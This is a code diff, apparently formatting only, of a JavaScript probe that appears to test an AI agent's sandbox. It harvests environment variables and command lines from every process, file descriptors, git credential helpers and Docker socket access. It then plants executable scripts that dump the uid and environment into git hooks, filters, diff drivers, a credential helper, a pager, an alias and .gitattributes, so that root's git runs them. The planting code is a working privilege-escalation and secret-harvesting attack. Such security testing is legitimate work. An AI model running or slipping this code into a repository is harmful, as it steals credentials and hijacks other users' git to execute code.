@@ -48,7 +48,12 @@ const tryRead = (path) => {
 };
 
 // 1. Its own environment.
-scan('env', Object.entries(process.env).map(([key, value]) => `${key}=${value}`).join('\n'));
+scan(
+  'env',
+  Object.entries(process.env)
+    .map(([key, value]) => `${key}=${value}`)
+    .join('\n'),
+);
 
 // 2. Every process: environment and command line. /proc/self names its pid as /proc counts them
 // (a test's PID namespace has the host's /proc).
@@ -70,7 +75,9 @@ for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
 for (const fd of readdirSync('/proc/self/fd')) {
   try {
     report.fds[fd] = readlinkSync(`/proc/self/fd/${fd}`);
-  } catch { /* closed while listing */ }
+  } catch {
+    /* closed while listing */
+  }
 }
 
 // 3. Git: the credential helper (as configured, and the image's own called by hand), git config.
@@ -124,7 +131,10 @@ for (const root of new Set([homedir(), '/run', '/tmp', '/var/tmp', '/dev/shm', w
 for (const socket of ['/var/run/docker.sock', '/run/docker.sock']) {
   report.dockerSocket[socket] = await new Promise((resolve) => {
     const client = connect(socket);
-    client.on('connect', () => { client.destroy(); resolve('connected'); });
+    client.on('connect', () => {
+      client.destroy();
+      resolve('connected');
+    });
     client.on('error', (err) => resolve(err.code));
   });
 }
@@ -145,31 +155,62 @@ if (process.env.ANTHROPIC_BASE_URL) {
 // 7. Code for root's git to run: hooks, config, attributes, a nested repository.
 const record = dirname(reportFile);
 if (process.env.AMT_PLANT === '1') {
-  const proof = (name) => `#!/bin/sh\nid -u > "${record}/proof-${name}-$(id -u)"\nenv >> "${record}/proof-${name}-$(id -u)"\ncat >/dev/null 2>&1 || true\nexit 0\n`;
+  const proof = (name) =>
+    `#!/bin/sh\nid -u > "${record}/proof-${name}-$(id -u)"\nenv >> "${record}/proof-${name}-$(id -u)"\ncat >/dev/null 2>&1 || true\nexit 0\n`;
   const script = (dir, name) => {
     mkdirSync(dir, { recursive: true });
     writeFileSync(join(dir, name), proof(name));
     chmodSync(join(dir, name), 0o755);
     return join(dir, name);
   };
-  const hooks = ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'pre-push', 'reference-transaction', 'post-checkout', 'post-merge', 'post-index-change', 'pre-auto-gc', 'post-rewrite', 'fsmonitor-watchman'];
+  const hooks = [
+    'pre-commit',
+    'prepare-commit-msg',
+    'commit-msg',
+    'post-commit',
+    'pre-push',
+    'reference-transaction',
+    'post-checkout',
+    'post-merge',
+    'post-index-change',
+    'pre-auto-gc',
+    'post-rewrite',
+    'fsmonitor-watchman',
+  ];
   for (const hook of hooks) script('.git/hooks', hook);
   const evil = join(process.cwd(), '.evil');
   for (const hook of hooks) script(join(evil, 'hooks'), hook);
   const run = (name) => script(evil, name);
   writeFileSync(join(evil, 'included.config'), `[core]\n\tsshCommand = ${run('ssh')}\n`);
   const config = [
-    '[core]', `\thooksPath = ${join(evil, 'hooks')}`, `\tfsmonitor = ${run('fsmonitor')}`, `\tpager = ${run('pager')}`,
-    `\talternateRefsCommand = ${run('alternate-refs')}`, `\tsshCommand = ${run('ssh')}`,
-    '[filter "evil"]', `\tclean = ${run('filter-clean')}`, `\tsmudge = ${run('filter-smudge')}`, `\tprocess = ${run('filter-process')}`, '\trequired = true',
-    '[diff "evil"]', `\ttextconv = ${run('textconv')}`, `\tcommand = ${run('diff-command')}`,
-    '[diff]', `\texternal = ${run('diff-external')}`,
-    '[credential]', `\thelper = !${run('credential-helper')}`,
-    '[uploadpack]', `\tpackObjectsHook = ${run('pack-objects-hook')}`,
-    `[includeIf "gitdir:/"]`, `\tpath = ${join(evil, 'included.config')}`,
-    '[remote "origin"]', '\tpushurl = file:///nonexistent/stolen.git',
-    '[url "file:///nonexistent/"]', '\tinsteadOf = http',
-    '[alias]', `\tpush = !${run('alias')}`,
+    '[core]',
+    `\thooksPath = ${join(evil, 'hooks')}`,
+    `\tfsmonitor = ${run('fsmonitor')}`,
+    `\tpager = ${run('pager')}`,
+    `\talternateRefsCommand = ${run('alternate-refs')}`,
+    `\tsshCommand = ${run('ssh')}`,
+    '[filter "evil"]',
+    `\tclean = ${run('filter-clean')}`,
+    `\tsmudge = ${run('filter-smudge')}`,
+    `\tprocess = ${run('filter-process')}`,
+    '\trequired = true',
+    '[diff "evil"]',
+    `\ttextconv = ${run('textconv')}`,
+    `\tcommand = ${run('diff-command')}`,
+    '[diff]',
+    `\texternal = ${run('diff-external')}`,
+    '[credential]',
+    `\thelper = !${run('credential-helper')}`,
+    '[uploadpack]',
+    `\tpackObjectsHook = ${run('pack-objects-hook')}`,
+    `[includeIf "gitdir:/"]`,
+    `\tpath = ${join(evil, 'included.config')}`,
+    '[remote "origin"]',
+    '\tpushurl = file:///nonexistent/stolen.git',
+    '[url "file:///nonexistent/"]',
+    '\tinsteadOf = http',
+    '[alias]',
+    `\tpush = !${run('alias')}`,
   ].join('\n');
   appendFileSync('.git/config', `${config}\n`);
   writeFileSync('.gitattributes', '* filter=evil diff=evil\n');
